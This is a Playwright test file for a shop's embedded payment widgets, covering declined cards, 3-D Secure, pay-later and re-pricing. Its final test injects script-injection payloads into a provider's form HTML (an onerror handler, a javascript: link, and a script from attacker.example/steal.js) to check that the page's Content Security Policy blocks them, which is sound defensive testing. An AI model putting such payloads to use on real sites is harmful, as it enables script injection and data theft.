import { expect, test } from '@playwright/test';
import { GUARDED_CHECKOUT_PATH } from '../src/contract/checkout-api/guarded-calls';
import { WIDGET_TEXTS } from '../src/local/checkout-api/widgets/widget-texts';
import { confirmAgeInSession } from './support/hydrated';
import { cardWidget, chooseCardWidget } from './support/payment-widgets';
import { PRODUCT, restock } from './support/shop';
import {
  declinedThenPaid,
  expectReceipt,
  paidLater,
  readyToPay,
  repricedAfterStart,
  startPayLater,
  typeWidgetAddress,
  verifiedByBank,
  WIDGET_SHOPPERS,
} from './support/widget-journeys';

// Centra's inline payment flow with the embedded Checkout API's two test widgets: initiated
// as soon as the method is chosen, paid through the widget's callback (reference §4.2).

test.describe('payment widgets', () => {
  test.beforeEach(async ({ page }) => {
    await confirmAgeInSession(page);
    await restock(page, PRODUCT);
  });

  for (const shopper of WIDGET_SHOPPERS) {
    test.describe(`in ${shopper.language}`, () => {
      test('a declined card, then a card that pays', async ({ page }) => {
        await declinedThenPaid(page, shopper);
      });

      test('a card that asks for 3-D Secure, confirmed at the bank', async ({ page }) => {
        await verifiedByBank(page, shopper);
      });

      test('pays later with the address the widget asked for', async ({ page }) => {
        await paidLater(page, shopper);
      });
    });
  }

  test('a country chosen after the widget started: the widget starts again and the new total is paid', async ({
    page,
  }) => {
    await repricedAfterStart(page, WIDGET_SHOPPERS[0]!, 'DE');
  });

  test('the pay-later widget’s own country change re-prices the cart, keeps what was typed, and the order charges it', async ({
    page,
  }) => {
    const shopper = WIDGET_SHOPPERS[0]!;
    const texts = WIDGET_TEXTS.en;
    await readyToPay(page, shopper);
    const widget = await startPayLater(page, 'en');
    await expect(widget.getByRole('button')).toContainText('£');
    await typeWidgetAddress(widget, 'en', 'Berlin');
    await widget.getByLabel(texts.country).selectOption('DE');
    // Saved with the shop (PUT payment-fields), the cart in euros, the widget started again
    // for the new total with what the shopper had typed.
    const total = page.getByTestId('grand-total');
    await expect(total).toHaveText(/€/, { timeout: 15_000 });
    const euros = ((await total.textContent()) ?? '').trim();
    await expect(widget.getByRole('button')).toContainText(euros);
    await expect(widget.getByLabel(texts.country)).toHaveValue('DE');
    await expect(widget.getByLabel(texts.city)).toHaveValue('Berlin');
    await expect(widget.getByLabel(texts.email)).toHaveValue('lina@example.com');
    await widget.getByRole('button').click();
    await expectReceipt(page, shopper);
    await expect(page.getByTestId('grand-total')).toHaveText(euros);
  });

  test('nothing in a provider’s snippet runs outside the page’s policy', async ({ page }) => {
    const blocked: string[] = [];
    page.on('console', (message) => {
      if (/Content Security Policy/i.test(message.text())) blocked.push(message.text());
    });
    // Were the browser to fetch the foreign script, it would get one that runs.
    const served: string[] = [];
    await page.route('https://attacker.example/**', (route) => {
      served.push(route.request().url());
      return route.fulfill({ contentType: 'text/javascript', body: 'window.ranForeign = true' });
    });
    // The snippet as a compromised provider might answer it: a handler in an attribute, a
    // `javascript:` link and a script from a host the policy does not list.
    await page.route(`**${GUARDED_CHECKOUT_PATH}/payment`, async (route) => {
      const response = await route.fetch();
      const body = (await response.json()) as { action?: string; formHtml?: string };
      if (body.action === 'form' && body.formHtml)
        body.formHtml +=
          '<img src="/nope.png" onerror="window.ranHandler = true">' +
          '<a id="bad-link" href="javascript:window.ranLink = true">x</a>' +
          '<script src="https://attacker.example/steal.js"></script>';
      await route.fulfill({ response, json: body });
    });
    await readyToPay(page, WIDGET_SHOPPERS[0]!);
    await chooseCardWidget(page, 'en');
    await page.locator('#bad-link').click();
    await expect.poll(() => blocked.length).toBeGreaterThanOrEqual(2);
    expect(
      await page.evaluate(() =>
        ['ranHandler', 'ranLink', 'ranForeign'].filter((key) => key in window),
      ),
    ).toEqual([]);
    expect(served).toEqual([]);
    // The provider's own script, from an allowed host, ran: its widget is there.
    await expect(cardWidget(page, 'en')).toBeVisible();
    await page.unrouteAll({ behavior: 'ignoreErrors' });
  });
});
